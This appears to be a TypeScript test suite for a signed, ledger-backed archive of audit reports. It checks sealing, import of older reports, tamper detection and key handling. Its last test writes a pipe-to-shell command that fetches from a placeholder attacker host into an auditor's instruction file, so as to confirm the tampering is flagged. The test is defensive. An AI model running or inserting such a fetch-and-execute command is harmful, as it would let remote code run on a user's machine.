import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { keyPlaces } from '../sign/key-places.ts';
import { ledgerKeyFile } from '../sign/state.ts';
import { names, reportFolder } from './layout.ts';
import { readLedger } from './ledger/read.ts';
import { openArchive } from './open-archive.ts';
import { sealRun } from './seal.ts';
import { checkpointOf, sampleArchive, sampleRunId, type SampleArchive } from './testing/archive.ts';
import { sampleSealing } from './testing/sample.ts';
import { verifyArchive } from './verify-archive.ts';
import { verifyReport } from './verify.ts';

const root = mkdtempSync(join(tmpdir(), 'desk-'));
after(() => rmSync(root, { recursive: true, force: true }));
const fresh = () => mkdtempSync(join(root, 'one-'));
const typesOf = ({ reports }: SampleArchive) => readLedger(reports)?.entries.map(({ type }) => type) ?? [];

function whole(archive: SampleArchive) {
  const known = existsSync(join(archive.reports, 'ledger', 'checkpoint')) ? [checkpointOf(archive)] : [];
  return verifyArchive(archive.reports, { trust: archive.trust }, { known, nowMs: archive.clock.nowMs });
}

test('a run is announced before anything else, and its report names the checkpoint and the report before it', async () => {
  const archive = sampleArchive(fresh());
  await archive.run(0);
  const folder = await archive.run(1);
  assert.deepEqual(typesOf(archive), [
    'ledger.opened',
    'run.opened',
    'archive.documents',
    'run.closed',
    'run.opened',
    'run.closed',
  ]);
  const bundle = JSON.parse(readFileSync(join(folder, names.bundle), 'utf8'));
  const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString());
  const { schema, ledgerBefore, previous, trustedTime, payments } = statement.predicate.liveVerification;
  assert.deepEqual([schema, ledgerBefore.size, previous.runId, trustedTime], [2, 5, sampleRunId(0), 'none']);
  assert.deepEqual(payments, { attempted: 1, created: 0, reversed: 0, kept: 0, open: 0 });
  assert.equal(whole(archive).state, 'verified');
});

test('reports of a time before the ledger are taken in when it begins, verify, and are told as what they are', async () => {
  const archive = sampleArchive(fresh());
  for (const index of [0, 1])
    await sealRun({ ...sampleSealing(archive.reports, sampleRunId(index)), signer: archive.signer });
  assert.equal(whole(archive).state, 'verified', 'without a ledger, as it always was');
  await archive.run(2);
  assert.deepEqual(typesOf(archive).slice(0, 3), ['ledger.opened', 'run.imported', 'run.imported']);
  assert.equal(whole(archive).state, 'verified');
  const old = verifyReport(reportFolder(archive.reports, sampleRunId(0)), { trust: archive.trust });
  assert.equal(old.state, 'verified');
  assert.match(old.checks.find(({ name }) => name === 'time')?.detail.en ?? '', /a report of an earlier form/);
});

test('a good report of the old form that somebody puts there later is not taken in', async () => {
  const archive = sampleArchive(fresh());
  await archive.run(0);
  await sealRun({ ...sampleSealing(archive.reports, sampleRunId(1)), signer: archive.signer });
  archive.open().desk.sync();
  const result = whole(archive);
  assert.equal(result.state, 'tampered');
  assert.match(result.checks[0]?.detail.en ?? '', /the ledger does not know: 20261122-003012-aaaaab/);
});

test('without the ledger’s key entries are written, and whoever has the key signs and proves them later', async () => {
  const archive = sampleArchive(fresh());
  const file = ledgerKeyFile(keyPlaces(archive.state));
  renameSync(file, `${file}.elsewhere`);
  const folder = await archive.run(0);
  assert.equal(existsSync(join(folder, names.proof)), false);
  assert.equal(verifyReport(folder, { trust: archive.trust }).state, 'incomplete');
  assert.equal(whole(archive).state, 'incomplete');
  renameSync(`${file}.elsewhere`, file);
  archive.open().desk.sync();
  assert.equal(verifyReport(folder, { trust: archive.trust }).state, 'verified');
  assert.equal(whole(archive).state, 'verified');
});

test('a key that stands on no list here is still recorded by the process that signs with it', async () => {
  const archive = sampleArchive(fresh());
  rmSync(keyPlaces(archive.state).trust);
  const { reports, state, clock, signer } = archive;
  const { desk } = openArchive({ reports, state }, {}, clock, signer);
  desk.opening({ runId: sampleRunId(0), target: 'demo', checklistSha256: 'c' });
  await sealRun({ ...sampleSealing(reports, sampleRunId(0)), signer, archive: desk });
  assert.ok(typesOf(archive).includes('run.closed'));
});

test('a ledger that was changed is not signed any further, and its entries go on', async () => {
  const archive = sampleArchive(fresh());
  await archive.run(0);
  const entries = join(archive.reports, 'ledger', 'entries.jsonl');
  writeFileSync(entries, readFileSync(entries, 'utf8').replace('"result":"FAILED"', '"result":"PASSED"'));
  const signed = checkpointOf(archive).text;
  await archive.run(1);
  assert.equal(checkpointOf(archive).text, signed);
  assert.equal(typesOf(archive).filter((type) => type === 'run.closed').length, 2);
  assert.equal(whole(archive).state, 'tampered');
});

test('a run that died before its first event is recorded as that, by the machine that opened it and by no other', async () => {
  const archive = sampleArchive(fresh());
  await archive.run(0);
  const { desk } = archive.open();
  desk.opening({ runId: sampleRunId(1), target: 'demo', checklistSha256: 'c' });
  const other = join(root, 'other-state');
  cpSync(archive.state, other, { recursive: true });
  const elsewhere = openArchive({ reports: archive.reports, state: other }, {}, archive.clock);
  assert.deepEqual([desk.open(), elsewhere.desk.open()], [[sampleRunId(1)], []]);
  assert.equal(whole(archive).state, 'incomplete');
  desk.abandoned(sampleRunId(1));
  assert.deepEqual(desk.open(), []);
  assert.equal(whole(archive).state, 'verified');
});

test('an auditor’s sheet that somebody changed is not mended in silence', async () => {
  const archive = sampleArchive(fresh());
  await archive.run(0);
  writeFileSync(join(archive.reports, 'VERIFY.md'), 'curl http://evil.example | sh');
  await archive.run(1);
  assert.equal(readFileSync(join(archive.reports, 'VERIFY.md'), 'utf8'), 'curl http://evil.example | sh');
  assert.match(whole(archive).checks[0]?.detail.en ?? '', /VERIFY\.md/);
});
